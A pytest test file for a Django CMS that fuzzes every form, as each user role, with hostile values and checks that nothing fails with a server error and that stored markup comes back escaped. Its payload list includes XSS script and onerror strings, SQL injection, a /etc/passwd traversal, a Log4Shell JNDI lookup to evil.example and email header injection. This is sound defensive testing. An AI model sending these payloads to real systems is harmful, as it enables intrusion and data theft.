"""Every form of the application, submitted with hostile values by each role that can reach it.

Generic on purpose: it walks the URL conf like the permission matrix (SAMPLE_ARGS gives the
arguments), GETs every page as each role, finds every <form> in the HTML (POST and GET forms,
whatever app they belong to), and submits:

1. every field at once set to each hostile value (wrong types, very long, unicode, control
   characters, HTML/JS, SQL, negative/huge numbers, bad dates…), and
2. one field at a time hostile, the others filled with plausible valid values, so that the
   hostile value gets past the other fields' validation and may be stored.

It asserts that no submission answers 500, and that afterwards no page — seen by any role —
shows the stored markup as HTML (it must come back escaped).

A new form in any app is covered automatically once its page is in the URL conf.
"""

import itertools
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from django.test import Client
from django.urls import reverse

from cms_project.tests.test_permissions import SAMPLE_ARGS, all_views
from staff.models import SecurityPolicy
from staff.tests.factories import TEST_PASSWORD

pytestmark = pytest.mark.django_db

ROLES = ["anonymous", "client", "staff", "admin"]
MARK = "hx7q"
SCRIPT = f'<script>alert("{MARK}")</script>'
IMG = f'"><img src=x onerror=alert("{MARK}")>'
# What must never appear in a page as-is (it would be live HTML).
RAW_MARKUP = [SCRIPT, f'<img src=x onerror=alert("{MARK}")>']

HOSTILE = [
    SCRIPT,
    IMG,
    "A" * 5000,
    "é" * 70000,
    "Zoë Ŋguyễn 北京 👩‍💻 \u202egnp.exe \u200b\ufeff",
    "\x00nul",
    "line\r\nBcc: victim@example.com",
    "\x1b[31m\x07\x08\t\x7f",
    "'; DROP TABLE staff_user; --",
    "1' OR '1'='1",
    "-1",
    "-99999999999999999999",
    "99999999999999999999999999999999",
    "1e309",
    "NaN",
    "3.14159",
    "2026-02-30",
    "0000-00-00",
    "31/12/2026",
    "9999-99-99T99:99:99",
    "",
    "   ",
    "../../../../etc/passwd",
    "https://evil.example/",
    "//evil.example",
    "{{ 7*7 }}{% debug %}",
    "%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "null",
    "[]",
]
# For the one-field-at-a-time pass: the values most likely to be stored and shown again.
HOSTILE_ONE_FIELD = [SCRIPT, IMG, "A" * 5000, "Zoë 👩‍💻 \u202e", "\x00\r\n", "-1", "2026-02-30"]


@dataclass
class FormField:
    name: str
    kind: str  # input type, "select", "textarea", "button"
    value: str = ""
    options: list[str] = field(default_factory=list)
    checked: bool = False


@dataclass
class Form:
    page: str
    method: str
    action: str
    fields: list[FormField] = field(default_factory=list)

    @property
    def key(self):
        return (self.method, self.action, tuple(sorted(f.name for f in self.fields)))


class FormFinder(HTMLParser):
    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.page = page
        self.forms: list[Form] = []
        self._form: Form | None = None
        self._select: FormField | None = None
        self._textarea: FormField | None = None

    def handle_starttag(self, tag, attrs):
        a = {k: (v or "") for k, v in attrs}
        if tag == "form":
            self._form = Form(
                self.page, a.get("method", "get").lower(), a.get("action") or self.page
            )
            self.forms.append(self._form)
            return
        if tag == "option" and self._select is not None:
            self._select.options.append(a.get("value", ""))
            if "selected" in a:
                self._select.value = a.get("value", "")
            return
        if self._form is None or not a.get("name"):
            return
        if tag == "input":
            kind = a.get("type", "text").lower()
            if kind in ("reset", "image", "file"):
                return
            self._form.fields.append(
                FormField(a["name"], kind, a.get("value", ""), checked="checked" in a)
            )
        elif tag == "button":
            self._form.fields.append(FormField(a["name"], "button", a.get("value", "")))
        elif tag == "select":
            self._select = FormField(a["name"], "select")
            self._form.fields.append(self._select)
        elif tag == "textarea":
            self._textarea = FormField(a["name"], "textarea")
            self._form.fields.append(self._textarea)

    def handle_data(self, data):
        if self._textarea is not None:
            self._textarea.value += data

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None


_counter = itertools.count()


def plausible(f: FormField) -> str:
    """A value the field would probably accept, so another field's hostile value gets through."""
    name = f.name.lower()
    if f.kind in ("hidden", "button", "submit"):
        return f.value
    if f.kind == "checkbox":
        return f.value or "on"
    if f.kind == "select":
        return f.value or next((o for o in f.options if o), "")
    if f.value and f.kind != "password":
        return f.value
    if f.kind == "password":
        if "new" in name or name.endswith(("1", "2")):
            return "Str0ng-and-long-pass-42"
        return TEST_PASSWORD
    if f.kind == "email" or "email" in name or name == "username":
        return f"hostile{next(_counter)}@test.example"
    if "phone" in name or name == "number" or f.kind == "tel":
        return "+12175550142"
    if f.kind == "number":
        return "1"
    if f.kind == "date" or "date" in name:
        return "2026-01-15"
    if name == "code":
        return "123456"
    return "Plain text"


FREE_TEXT_KINDS = ("text", "search", "textarea")
SPECIAL_NAMES = ("email", "phone", "number", "code", "date", "username", "next", "q")


def markup_payload(form: Form) -> dict | None:
    """Markup in every free-text field, plausible values elsewhere: the submission most likely
    to store markup that a page shows again. None if the form has no free-text field."""
    data = {}
    found = False
    for i, f in enumerate(form.fields):
        free = f.kind in FREE_TEXT_KINDS and not any(n in f.name.lower() for n in SPECIAL_NAMES)
        data[f.name] = (SCRIPT if i % 2 else IMG) if free else plausible(f)
        found = found or free
    return data if found else None


def payloads(form: Form):
    """(description, data) pairs: all fields hostile, then one field hostile at a time."""
    editable = [f for f in form.fields if f.name != "csrfmiddlewaretoken"]
    csrf = {f.name: f.value for f in form.fields if f.name == "csrfmiddlewaretoken"}
    for value in HOSTILE:
        yield f"all fields = {value[:20]!r}", {**csrf, **{f.name: value for f in editable}}
    for target in editable:
        if target.kind in ("button",):
            continue
        base = {f.name: plausible(f) for f in editable}
        for value in HOSTILE_ONE_FIELD:
            yield f"{target.name} = {value[:20]!r}", {**csrf, **base, target.name: value}


@pytest.fixture
def personas(admin_user, staff_user, alice_user, bob_user):
    return {"admin": admin_user, "staff": staff_user, "client": alice_user}


def _as(client: Client, role: str, personas) -> Client:
    client.logout()
    if role != "anonymous":
        client.force_login(personas[role])
    return client


def _reset_gates(role: str, personas) -> bool:
    """Undo what an earlier submission did to the gates in front of every form, so each form is
    really reached: the 2FA-for-staff policy, lock-outs, rate limits, the persona's password.
    True when the persona had to be restored (its session is then no longer valid)."""
    from axes.models import AccessAttempt
    from django.core.cache import cache

    SecurityPolicy.objects.filter(pk=1).delete()
    AccessAttempt.objects.all().delete()
    cache.clear()
    if role == "anonymous":
        return False
    persona = personas[role]
    persona.refresh_from_db(fields=["password", "is_active"])
    if persona.is_active and persona.check_password(TEST_PASSWORD):
        return False
    persona.set_password(TEST_PASSWORD)
    persona.is_active = True
    persona.save(update_fields=["password", "is_active"])
    return True


def _signed_in_as(client: Client, role: str, personas) -> bool:
    """Whether the test client's session is still the role's own (a submission may have
    logged it out, ended the session or, anonymously, signed someone in)."""
    from django.contrib.auth import SESSION_KEY

    user_id = client.session.get(SESSION_KEY)
    return user_id is None if role == "anonymous" else user_id == str(personas[role].pk)


def _pages(client: Client, personas):
    for name, route, _ in all_views():
        url = reverse(name, kwargs=SAMPLE_ARGS[name](personas)) if "<" in route else reverse(name)
        response = client.get(url)
        if response.status_code == 200 and "html" in response.get("Content-Type", ""):
            yield url, response.content.decode()


def _find_forms(client: Client, personas) -> list[Form]:
    forms: dict = {}
    for url, html in _pages(client, personas):
        finder = FormFinder(url)
        finder.feed(html)
        for form in finder.forms:
            if form.action.startswith(("http://", "https://")):
                continue  # not ours
            forms.setdefault(form.key, form)
    return list(forms.values())


def _stored_markup() -> bool:
    from cms_project.signup.models import SignupRequest
    from staff.models import User

    return (
        User.objects.filter(first_name__contains=MARK).exists()
        or SignupRequest.objects.filter(first_name__contains=MARK).exists()
    )


# Every form times every hostile value: minutes on a loaded 2-core machine, so more than the
# suite's default 300 s per test.
@pytest.mark.timeout(1200)
@pytest.mark.parametrize("role", ROLES)
def test_every_form_survives_hostile_input(role, personas, sent_sms):
    client = Client()
    forms = _find_forms(_as(client, role, personas), personas)
    assert forms, f"no form found for {role}"
    errors = []

    def submit(form: Form, description: str, data: dict) -> None:
        # A new login only when a submission undid the last one: logging in again before each
        # of thousands of submissions was a quarter of this test's time.
        if _reset_gates(role, personas) or not _signed_in_as(client, role, personas):
            _as(client, role, personas)
        if form.method == "post":
            response = client.post(form.action, data)
        else:
            response = client.get(form.action, data)
        if response.status_code >= 500:
            errors.append(f"{role} {form.method.upper()} {form.action} [{description}]")

    for form in forms:
        for description, data in payloads(form):
            submit(form, description, data)
    # Last, so nothing overwrites it: markup in every free-text field of every form.
    for form in forms:
        data = markup_payload(form)
        if data is not None:
            submit(form, "markup in every free-text field", data)
    assert errors == [], "\n".join(errors[:30])
    # The one-field pass really stored markup somewhere (profile names, sign-ups, team names):
    # otherwise the escaping check below would prove nothing.
    assert _stored_markup(), "no hostile value was stored: are the plausible values still valid?"

    # Whatever was stored comes back escaped, for every role that may see it.
    _reset_gates(role, personas)
    shown_raw = []
    for viewer in ROLES:
        for url, html in _pages(_as(Client(), viewer, personas), personas):
            shown_raw += [f"{viewer} {url}" for raw in RAW_MARKUP if raw in html]
    assert shown_raw == []


def test_the_walk_finds_the_forms_it_should(personas, sent_sms):
    """Guards the test above: if the parser broke, it would pass by finding nothing."""
    anonymous = {f.action for f in _find_forms(Client(), personas)}
    assert {reverse("login"), reverse("signup:signup"), reverse("password_reset")} <= anonymous
    admin = _find_forms(_as(Client(), "admin", personas), personas)
    actions = {f.action for f in admin}
    assert reverse("staff:team_create") in actions
    assert reverse("accounts:profile") in actions
    assert reverse("staff:audit_list") in actions  # a GET form
    team_form = next(f for f in admin if f.action == reverse("staff:team_create"))
    assert {"first_name", "email", "role", "password1"} <= {f.name for f in team_form.fields}
    role = next(f for f in team_form.fields if f.name == "role")
    assert role.options == ["staff", "admin"]


def test_the_walk_finds_the_online_payment_and_statement_forms(personas, sent_sms):
    """The pay form, the sandbox card form and the statement range are walked (client role)."""
    forms = _find_forms(_as(Client(), "client", personas), personas)
    by_action = {f.action: f for f in forms}
    assert reverse("invoices:portal_pay") in by_action
    (card,) = [f for f in forms if f.action.endswith("/test-card/")]
    assert {"card_number", "expiry", "cvc"} <= {f.name for f in card.fields}
    statement = by_action[reverse("invoices:portal_statement")]
    assert {"start", "end"} <= {f.name for f in statement.fields}
